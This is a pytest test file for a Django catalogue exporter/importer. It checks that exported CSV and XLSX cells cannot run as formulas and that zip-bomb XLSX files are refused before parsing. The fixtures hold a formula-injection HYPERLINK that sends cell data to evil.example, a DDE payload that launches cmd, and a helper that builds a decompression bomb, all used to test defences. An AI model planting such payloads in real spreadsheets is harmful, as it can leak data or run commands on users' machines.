"""Exchange files that cannot attack their reader: exported cells never run as
formulas (OWASP CSV injection), and an XLSX whose sheets inflate past a limit is
refused before openpyxl parses a row."""

import csv
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.catalog.test_exchange import good_row, run
from tongban.catalog.exchange import formats
from tongban.catalog.exchange.exporter import catalog_export_rows
from tongban.catalog.exchange.formats import FileFormatError, read_rows, write_rows
from tongban.catalog.exchange.importer import catalog_import
from tongban.core.domain.spreadsheet import formula_safe
from tongban.core.permissions import SYSTEM

pytestmark = pytest.mark.django_db

DANGEROUS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_cell_starting_like_a_formula_is_written_as_text(value):
    assert formula_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["营业执照", "1+1", "", "'quoted"])
def test_an_ordinary_cell_is_written_unchanged(value):
    assert formula_safe(value) == value


def test_numbers_are_not_quoted():
    assert formula_safe(-5) == -5


@pytest.fixture
def hostile_catalogue(orgs):
    report = run(
        [
            good_row(
                name='=HYPERLINK("http://evil.example/?x="&A1,"点击")',
                conditions="@SUM(1+1)*cmd|' /C calc'!A0",
                location="-2+3",
            )
        ]
    )
    assert report.ok, report.errors
    return catalog_export_rows()


def test_a_csv_export_cannot_run_formulas(hostile_catalogue, tmp_path):
    path = tmp_path / "catalogue.csv"
    write_rows(path, hostile_catalogue)
    with path.open(encoding="utf-8", newline="") as handle:
        row = next(csv.DictReader(handle))
    assert row["name"].startswith("'=")
    assert row["conditions"].startswith("'@")
    assert row["location"] == "'-2+3"


def test_an_xlsx_export_holds_no_formula(hostile_catalogue, tmp_path):
    path = tmp_path / "catalogue.xlsx"
    write_rows(path, hostile_catalogue)
    sheet = load_workbook(path).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    with zipfile.ZipFile(path) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_a_guarded_export_imports_back_unchanged(hostile_catalogue, tmp_path, suffix):
    path = tmp_path / f"catalogue.{suffix}"
    write_rows(path, hostile_catalogue)
    headers, rows = read_rows(path)
    report = catalog_import(actor=SYSTEM, headers=headers, rows=rows)
    assert report.ok, report.errors
    assert report.unchanged == 1
    assert catalog_export_rows() == hostile_catalogue


def _bomb(path: Path, inflated: int) -> None:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as member:
            chunk = b" " * (1024 * 1024)
            for _ in range(inflated // len(chunk)):
                member.write(chunk)


def test_an_xlsx_inflating_past_the_limit_is_refused_unparsed(
    tmp_path, settings, monkeypatch
):
    settings.CATALOG_IMPORT_MAX_INFLATED_BYTES = 16 * 1024 * 1024
    path = tmp_path / "bomb.xlsx"
    _bomb(path, 32 * 1024 * 1024)
    assert path.stat().st_size < 1024 * 1024

    def no_parsing(*args, **kwargs):
        raise AssertionError("openpyxl parsed the file")

    monkeypatch.setattr("openpyxl.load_workbook", no_parsing)
    with pytest.raises(FileFormatError, match=r"inflate"):
        read_rows(path)


def test_an_xlsx_member_with_an_absurd_ratio_is_refused(tmp_path, settings):
    settings.CATALOG_IMPORT_MAX_INFLATED_BYTES = 1024 * 1024 * 1024
    settings.CATALOG_IMPORT_MAX_RATIO = 100
    path = tmp_path / "bomb.xlsx"
    _bomb(path, 8 * 1024 * 1024)
    with pytest.raises(FileFormatError, match=r"ratio"):
        read_rows(path)


def test_a_file_that_is_not_a_zip_is_refused_clearly(tmp_path):
    path = tmp_path / "fake.xlsx"
    path.write_bytes(b"not a workbook")
    with pytest.raises(FileFormatError, match=r"not an XLSX"):
        formats.read_rows(path)
